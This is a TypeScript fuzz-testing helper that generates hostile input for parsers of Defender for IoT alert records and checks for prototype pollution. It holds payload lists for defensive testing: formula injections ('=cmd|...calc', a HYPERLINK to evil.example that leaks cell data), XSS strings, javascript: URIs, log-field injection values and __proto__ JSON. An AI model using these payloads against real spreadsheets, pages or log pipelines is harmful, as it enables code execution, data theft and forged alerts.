/**
 * fast-check arbitraries for hostile input: texts that try formula, HTML, Markdown, CEF/LEEF/syslog-label and
 * prototype-pollution tricks, JSON documents carrying `__proto__`/`constructor`/`prototype` keys (as JSON text,
 * so the keys are real own properties after JSON.parse, exactly as an event body would deliver them), random
 * bytes, and every input format the parsers accept with hostile text placed in its free-text fields.
 */
import fc from 'fast-check';
import { expect } from 'vitest';

// ---------------------------------------------------------------------------------------------------------
// Hostile text

export const FORMULA_TEXTS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
] as const;

export const HTML_TEXTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="https://evil.example/p">click</a>',
  '<iframe src=//evil.example>',
  '<svg/onload=alert(1)>',
  '</td></tr><tr><td>',
  '<!-- hidden -->',
  '<?xml version="1.0"?>',
  '&lt;b&gt;entity&lt;/b&gt;',
  '<b onmouseover="x">b</b>',
] as const;

export const MARKDOWN_TEXTS = [
  '[click me](https://evil.example/phish)',
  '![pixel](https://evil.example/t.png)',
  '[ref]: https://evil.example/ref',
  '<https://evil.example/auto>',
  'https://evil.example/bare',
  'http://evil.example',
  'www.evil.example',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<b>x</b>',
  'mailto:ceo@evil.example',
  'ms-settings:privacy',
  '**bold**',
  '__under__',
  '_italic_',
  '`code`',
  '```\nfenced\n```',
  '# Heading',
  '> quote',
  '- item',
  '+ item',
  '1. item',
  '2) item',
  '~~strike~~',
  '| a | b |',
  '\\*escaped\\*',
  '{{template}}',
] as const;

export const INJECTION_TEXTS = [
  ' dst=6.6.6.6 cs1Label=Site cs1=Evil',
  ' severity=Warning src_ip=6.6.6.6 dst_ip=6.6.6.7 UUID=evil start=0',
  '\tseverity=Warning\tsrc_ip=6.6.6.6\ttitle=Fake',
  ' msg=second',
  '|',
  '\\|',
  '\\',
  '\\=',
  '=',
  '\n',
  '\r\n',
  ', Severity: Warning, Alert group: Evil, UUID: evil',
  '; Alert severity: Warning; Alert title: Fake; Alert time: 1990-01-01T00:00:00Z',
  ' CEF:0|Microsoft Defender for IoT/CyberX|x|1|x|Fake|10|',
  ' LEEF:1.0|Microsoft Defender for IoT|Sensor|1|x|',
] as const;

export const PROTO_KEYS = ['__proto__', 'constructor', 'prototype'] as const;

export const UNICODE_TEXTS = [
  '\u202e', // right-to-left override
  '\u2066x\u2069',
  '\u200b',
  '\ufeff',
  '\u0000',
  '\u0007',
  '\u001b[31m',
  '\u0085',
  '\u2028',
  '\ud800', // lone surrogates
  '\udc00x',
  '🛑',
  'e\u0301',
  'ﬀ',
  'Ｔ',
  'ⓐ',
] as const;

const ALL_SNIPPETS: readonly string[] = [
  ...FORMULA_TEXTS,
  ...HTML_TEXTS,
  ...MARKDOWN_TEXTS,
  ...INJECTION_TEXTS,
  ...PROTO_KEYS,
  'toString',
  'valueOf',
  'hasOwnProperty',
  '{"__proto__":{"polluted":"yes"}}',
  ...UNICODE_TEXTS,
];

export const snippet = fc.constantFrom(...ALL_SNIPPETS);

/** A hostile string: a known trick, several glued together, one inside random text, or random UTF-16. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: snippet },
  { weight: 2, arbitrary: fc.array(snippet, { minLength: 2, maxLength: 4 }).map((xs) => xs.join('')) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.string({ maxLength: 12 }), snippet, fc.string({ maxLength: 12 }))
      .map((xs) => xs.join('')),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
);

/** Hostile text that still has a visible character (a title must not be empty to be accepted). */
export const hostileTitle: fc.Arbitrary<string> = hostileText.map((s) => `${s} x`);

/** Text starting with a formula trigger (= + - @ tab CR, or their full-width forms). */
export const formulaText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...FORMULA_TEXTS),
  fc
    .tuple(
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' =', '＝', '＋', '－', '＠'),
      fc.string({ maxLength: 20 }),
    )
    .map(([p, s]) => `${p}${s}`),
);

// ---------------------------------------------------------------------------------------------------------
// JSON with prototype keys, as text

const jsonKey = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...PROTO_KEYS) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      'polluted',
      'toString',
      'valueOf',
      'hasOwnProperty',
      'records',
      'title',
      'Title',
      'AlertName',
      'AlertSeverity',
      'ProviderName',
      'severity',
      'engine',
      'time',
      'ID',
      'Alert title',
      'alert_group',
      'Entities',
      'ExtendedProperties',
      '$ref',
      '$id',
    ),
  },
  { weight: 2, arbitrary: fc.string({ maxLength: 8 }) },
);

const jsonScalar = fc.oneof(
  fc.string({ maxLength: 12 }),
  hostileText,
  fc.double(),
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.constant(1767607872000),
  fc.constant('2026-01-05T10:11:12Z'),
);

/** A JSON document as text; objects freely use `__proto__`, `constructor` and `prototype` as keys. */
export const jsonText: fc.Arbitrary<string> = fc.letrec<{ value: string; array: string; object: string }>(
  (tie) => ({
    value: fc.oneof(
      { depthSize: 'small', withCrossShrink: true },
      jsonScalar.map((v) => JSON.stringify(v)),
      tie('array'),
      tie('object'),
    ),
    array: fc.array(tie('value'), { maxLength: 4 }).map((xs) => `[${xs.join(',')}]`),
    object: fc
      .array(fc.tuple(jsonKey, tie('value')), { maxLength: 6 })
      .map((kvs) => `{${kvs.map(([k, v]) => `${JSON.stringify(k)}:${v}`).join(',')}}`),
  }),
).value;

/** `{"__proto__":{"polluted":"yes"}, …}` at the top, nested, and inside an array. */
export const pollutingJson: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom(...PROTO_KEYS), jsonText, fc.constantFrom(...PROTO_KEYS))
  .map(
    ([k1, inner, k2]) =>
      `{"${k1}":{"polluted":"yes","toString":"x"},"title":"t","severity":"High","time":1767607872000,` +
      `"engine":"Anomaly","nested":{"${k2}":{"polluted":"yes"}},"list":[{"__proto__":{"polluted":"yes"}}],` +
      `"other":${inner}}`,
  );

// ---------------------------------------------------------------------------------------------------------
// Escaping per format

/** CEF header field: `\` and `|` escaped (CEF spec). */
export const cefHeaderEscape = (s: string): string =>
  s.replace(/[\\|]/g, (c) => `\\${c}`).replace(/[\r\n]/g, ' ');
/** CEF extension value: `\`, `=` escaped, CR/LF as `\r`/`\n` (CEF spec). */
export const cefValueEscape = (s: string): string =>
  s
    .replace(/[\\=]/g, (c) => `\\${c}`)
    .replace(/\r/g, '\\r')
    .replace(/\n/g, '\\n');

// ---------------------------------------------------------------------------------------------------------
// Records in every format, with hostile text in their free-text fields

export interface HostileFields {
  title: string;
  message: string;
  name: string;
  sensor: string;
  site: string;
  vendorId: string;
}

export const hostileFields: fc.Arbitrary<HostileFields> = fc.record({
  title: hostileTitle,
  message: hostileText,
  name: hostileText,
  sensor: hostileText,
  site: hostileText,
  vendorId: hostileText,
});

const T_MS = 1767607872000;
const T_ISO = '2026-01-05T10:11:12.000Z';

/** Optional syslog framing: none, RFC 3164 (with/without PRI), RFC 5424 (with structured data), octet count. */
export const syslogHeader: fc.Arbitrary<string> = fc.constantFrom(
  '',
  '<9>Jan  5 10:12:00 plant-a-sensor-01 ',
  'Jan  5 10:12:00 plant-a-sensor-01 ',
  '<13>Jan 05 2026 10:12:00 host ',
  '<9>1 2026-01-05T10:15:00.000Z plant-b-sensor-02 CyberX - - - ',
  '<9>1 2026-01-05T10:15:00.000Z plant-b-sensor-02 CyberX 1 ID47 [meta sequenceId="12" note="a\\]b"] ',
  '<9>1 - - - - - - ',
  '2026-01-05T10:12:00Z host ',
  '321 <9>Jan  5 10:12:00 plant-a-sensor-01 ',
  '<999>',
  '<9>1 ',
);

export function cefRecord(f: HostileFields, escaped: boolean): string {
  const v = escaped ? cefValueEscape : (s: string) => s;
  return (
    `CEF:0|Microsoft Defender for IoT/CyberX|${cefHeaderEscape(f.sensor)}|22.3.5|Microsoft Defender for IoT Alert|` +
    `${cefHeaderEscape(f.title)}|8|msg=${v(f.message)} protocol=S7 severity=Major type=Policy Violation ` +
    `UUID=${v(f.vendorId)} start=${T_MS} src_ip=10.10.1.5 shost=${v(f.name)} dst_ip=10.10.2.20 ` +
    `cs1Label=Site cs1=${v(f.site)} cat=Programming`
  );
}

export function leefRecord(f: HostileFields, version: '1.0' | '2.0'): string {
  const t = (s: string) => s.replace(/\t/g, ' ');
  const head =
    version === '1.0'
      ? `${t(f.sensor).replace(/\s/g, '') || 's'} LEEF:1.0|Microsoft Defender for IoT|Sensor|22.3.5|Alert|`
      : 'LEEF:2.0|Microsoft Defender for IoT|Sensor|22.3.5|Alert|^|';
  const sep = version === '1.0' ? '\t' : '^';
  return (
    head +
    [
      `title=${t(f.title)}`,
      `msg=${t(f.message)}`,
      'protocol=S7',
      'severity=Major',
      'type=Policy Violation',
      `start=${T_MS}`,
      'src_ip=10.10.1.5',
      'dst_ip=10.10.2.20',
      `src_name=${t(f.name)}`,
      `cat=Programming`,
    ].join(sep)
  );
}

export function syslogTextRecord(f: HostileFields): string {
  return (
    `CyberX platform name: ${f.sensor}, Microsoft Defender for IoT Alert: ${f.title}, Type: Policy Violation, ` +
    `Severity: Major, Source: ${f.name}, Source IP: 10.10.6.3, Protocol: HTTP, Destination IP: 203.0.113.80, ` +
    `Message: ${f.message}, Alert group: Internet access, UUID: ${f.vendorId}`
  );
}

export function syslogObjectText(f: HostileFields): string {
  return (
    `Sensor name: ${f.sensor}, Alert time: ${T_ISO}, Alert title: ${f.title}, Alert message: ${f.message}, ` +
    `Alert severity: Critical, Alert type: Operational, Protocol: S7, Source_MAC: 10.10.1.5, ${f.name}, ` +
    `Destination_MAC: 00:1B:2C:3D:4E:5F, alert_group: Restart/stop commands`
  );
}

export function syslogObjectJson(f: HostileFields): Record<string, unknown> {
  return {
    'Sensor name': f.sensor,
    'Alert time': String(T_MS),
    'Alert title': f.title,
    'Alert message': f.message,
    'Alert severity': 'Major',
    'Alert type': 'Anomaly',
    Source_MAC: `192.168.30.99, ${f.name}`,
    Destination_MAC: '192.168.30.10',
    alert_group: f.site,
  };
}

export function sensorApiRecord(f: HostileFields, webhook: boolean): Record<string, unknown> {
  return {
    ID: 11,
    UUID: f.vendorId,
    time: T_MS,
    title: f.title,
    message: f.message,
    severity: 'Major',
    engine: 'Policy Violation',
    sourceDevice: 21,
    destinationDevice: 22,
    sourceDeviceAddress: '192.168.20.5',
    destinationDeviceAddress: '192.168.20.30',
    sourceDeviceName: f.name,
    remediationSteps: [f.message, 'Review the PLC program history.'],
    ...(webhook ? { sensorName: f.sensor, zoneName: f.name, siteName: f.site, handled: false } : {}),
  };
}

export function securityAlertRow(f: HostileFields): Record<string, unknown> {
  return {
    TimeGenerated: '2026-01-05T10:20:31.5170000Z',
    AlertName: f.title,
    AlertSeverity: 'High',
    Description: f.message,
    ProviderName: 'IoTSecurity',
    VendorOriginalId: f.vendorId,
    AlertType: 'IoT_UnauthorizedPLCProgramming',
    StartTime: '2026-01-05T10:11:12.0000000Z',
    EndTime: '2026-01-05T10:18:40.0000000Z',
    Status: 'New',
    RemediationSteps: JSON.stringify([f.message]),
    Tactics: JSON.stringify([f.name, 'LateralMovement']),
    Techniques: '["T0843"]',
    ExtendedProperties: JSON.stringify({
      SensorId: f.sensor,
      SourceDeviceAddress: '10.10.1.5',
      DestinationDeviceAddress: '10.10.2.20',
      SourceDevice: f.name,
      Protocol: 'S7',
      AlertManagementUri: f.message,
      Category: f.site,
    }),
    Entities: JSON.stringify([
      {
        $id: '2',
        Type: 'iotdevice',
        DeviceName: f.name,
        DeviceType: f.site,
        IpAddress: { $id: '3', Address: '10.10.1.5', Type: 'ip' },
        PurdueLayer: f.name,
        Importance: f.site,
        Vendor: f.message,
        Site: f.site,
        Zone: f.name,
        Sensor: f.sensor,
        Owners: [f.name],
      },
      {
        $id: '4',
        Type: 'iotdevice',
        DeviceName: f.title,
        IpAddress: { Address: '10.10.2.20' },
        PurdueLevel: f.sensor,
        Importance: f.vendorId,
        DeviceType: f.name,
      },
    ]),
  };
}

export function defenderForCloudRecord(f: HostileFields): Record<string, unknown> {
  return {
    type: 'Microsoft.Security/Locations/alerts',
    properties: {
      alertDisplayName: f.title,
      description: f.message,
      severity: 'High',
      status: 'Active',
      productName: 'Azure Security Center for IoT',
      startTimeUtc: T_ISO,
      endTimeUtc: T_ISO,
      systemAlertId: f.vendorId,
      extendedProperties: { SensorId: f.sensor, SourceDeviceAddress: '10.10.1.5' },
      entities: [{ type: 'iotdevice', deviceName: f.name, site: f.site }],
    },
  };
}

export type FormatName =
  | 'CEF (escaped)'
  | 'CEF (raw)'
  | 'LEEF 1.0'
  | 'LEEF 2.0'
  | 'syslog text'
  | 'syslog object (text)'
  | 'syslog object (JSON)'
  | 'sensor API'
  | 'webhook'
  | 'SecurityAlert'
  | 'Defender for Cloud';

/** One record in a random format with hostile text in its fields: an object, or a line with a syslog header. */
export const hostileRecord: fc.Arbitrary<{ format: FormatName; value: unknown }> = fc
  .tuple(
    hostileFields,
    fc.constantFrom<FormatName>(
      'CEF (escaped)',
      'CEF (raw)',
      'LEEF 1.0',
      'LEEF 2.0',
      'syslog text',
      'syslog object (text)',
      'syslog object (JSON)',
      'sensor API',
      'webhook',
      'SecurityAlert',
      'Defender for Cloud',
    ),
    syslogHeader,
    fc.boolean(),
  )
  .map(([f, format, header, asText]) => {
    const line = (s: string) => `${header}${s}`;
    const obj = (o: Record<string, unknown>) => (asText ? JSON.stringify(o) : o);
    switch (format) {
      case 'CEF (escaped)':
        return { format, value: line(cefRecord(f, true)) };
      case 'CEF (raw)':
        return { format, value: line(cefRecord(f, false)) };
      case 'LEEF 1.0':
        return { format, value: line(leefRecord(f, '1.0')) };
      case 'LEEF 2.0':
        return { format, value: line(leefRecord(f, '2.0')) };
      case 'syslog text':
        return { format, value: line(syslogTextRecord(f)) };
      case 'syslog object (text)':
        return { format, value: line(syslogObjectText(f)) };
      case 'syslog object (JSON)':
        return { format, value: obj(syslogObjectJson(f)) };
      case 'sensor API':
        return { format, value: obj(sensorApiRecord(f, false)) };
      case 'webhook':
        return { format, value: obj(sensorApiRecord(f, true)) };
      case 'SecurityAlert':
        return { format, value: obj(securityAlertRow(f)) };
      default:
        return { format, value: obj(defenderForCloudRecord(f)) };
    }
  });

/** A string cut, spliced or flipped at random places (truncated headers, stray bytes, broken escapes). */
export function mutated(base: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc
    .tuple(
      base,
      fc.array(
        fc.tuple(
          fc.nat(),
          fc.nat({ max: 8 }),
          fc.oneof(snippet, fc.string({ unit: 'binary', maxLength: 4 })),
        ),
        { maxLength: 4 },
      ),
    )
    .map(([s, edits]) => {
      let out = s;
      for (const [at, del, ins] of edits) {
        const i = out.length ? at % (out.length + 1) : 0;
        out = out.slice(0, i) + ins + out.slice(i + del);
      }
      return out;
    });
}

/** Random bytes decoded the way a lenient reader would (latin1: every byte a code unit). */
export const randomBytes = fc.uint8Array({ maxLength: 512 });

// ---------------------------------------------------------------------------------------------------------
// Global state guards

/** Snapshot of the built-in prototypes a pollution would change. */
export function prototypeSnapshot(): string {
  const describe = (o: object) =>
    Object.getOwnPropertyNames(o)
      .sort()
      .map((k) => {
        const d = Object.getOwnPropertyDescriptor(o, k)!;
        return `${k}:${typeof d.value}:${typeof d.get}:${typeof d.set}`;
      })
      .join(',');
  return [Object.prototype, Array.prototype, Function.prototype, String.prototype].map(describe).join('\n');
}

/** Fails when any hostile input changed a built-in prototype. */
export function expectNoPollution(before: string): void {
  const probe = {} as Record<string, unknown>;
  expect(probe.polluted).toBeUndefined();
  expect(([] as unknown as Record<string, unknown>).polluted).toBeUndefined();
  expect(Object.getPrototypeOf(probe)).toBe(Object.prototype);
  expect(prototypeSnapshot()).toBe(before);
}

// ---------------------------------------------------------------------------------------------------------
// Deep nesting, generated lazily so a failing case prints as `Deep(…)` rather than as 20,000 brackets

export class Deep {
  constructor(
    readonly depth: number,
    readonly kind: 'array' | 'object' | 'envelope' | 'parsed',
    readonly bytes: boolean,
  ) {}

  /** The event body: JSON text (or its bytes), or an already parsed value as the Functions host would pass. */
  build(): unknown {
    const array = `${'['.repeat(this.depth)}${']'.repeat(this.depth)}`;
    const object = `${'{"a":'.repeat(this.depth)}1${'}'.repeat(this.depth)}`;
    const text =
      this.kind === 'array'
        ? array
        : this.kind === 'object'
          ? object
          : `{"records":[${array},${object},"${array}"]}`;
    if (this.kind === 'parsed') return JSON.parse(`{"records":[${array},${object}]}`) as unknown;
    return this.bytes ? Buffer.from(text) : text;
  }

  [fc.toStringMethod](): string {
    return `Deep(${this.depth}, ${this.kind}, ${this.bytes ? 'bytes' : 'text'})`;
  }
}

export const deepJson: fc.Arbitrary<Deep> = fc
  .tuple(
    fc.oneof(fc.integer({ min: 1, max: 100 }), fc.integer({ min: 100, max: 12_000 })),
    fc.constantFrom<Deep['kind']>('array', 'object', 'envelope', 'parsed'),
    fc.boolean(),
  )
  .map(([depth, kind, bytes]) => new Deep(depth, kind, bytes));

// ---------------------------------------------------------------------------------------------------------
// Near misses: records a parser must refuse, with hostile (and long) text where the reason quotes the record

export const longText: fc.Arbitrary<string> = fc
  .tuple(hostileText, fc.integer({ min: 1_000, max: 200_000 }))
  .map(([s, n]) => (s || 'x').repeat(Math.ceil(n / Math.max(1, s.length))).slice(0, n));

export const nearMiss: fc.Arbitrary<unknown> = fc
  .tuple(fc.oneof(hostileText, longText), fc.nat({ max: 11 }))
  .map(([t, which]) => {
    const h = cefHeaderEscape(t);
    switch (which) {
      case 0:
        return `CEF:0|${h}|p|1|x|Title|8|start=${T_MS}`;
      case 1:
        return `CEF:${h}|Microsoft|p|1|x|Title|8|start=${T_MS}`;
      case 2:
        return `CEF:0|Microsoft|p|1|x|Title|8|severity=${cefValueEscape(t)} start=${T_MS}`;
      case 3:
        return `CEF:0|Microsoft|p|1|x|Title|8|start=${cefValueEscape(t)}`;
      case 4:
        return `LEEF:1.0|${h}|Sensor|1|x|title=T\tseverity=Major\tstart=${T_MS}`;
      case 5:
        return `LEEF:${h}|Microsoft|Sensor|1|x|title=T\tseverity=Major`;
      case 6:
        return { AlertName: 'T', AlertSeverity: 'High', ProviderName: t, StartTime: T_ISO };
      case 7:
        return { AlertName: 'T', AlertSeverity: t, ProviderName: 'IoTSecurity', StartTime: T_ISO };
      case 8:
        return { AlertName: 'T', AlertSeverity: 'High', ProviderName: 'IoTSecurity', StartTime: t };
      case 9:
        return { AlertDisplayName: 'T', ProductName: t, Severity: 'High', StartTimeUtc: T_ISO };
      case 10:
        return { title: 'T', severity: t, time: T_MS, engine: 'Anomaly' };
      default:
        return `Sensor name: s, Alert title: T, Alert severity: ${t}, Alert time: ${T_ISO}`;
    }
  });
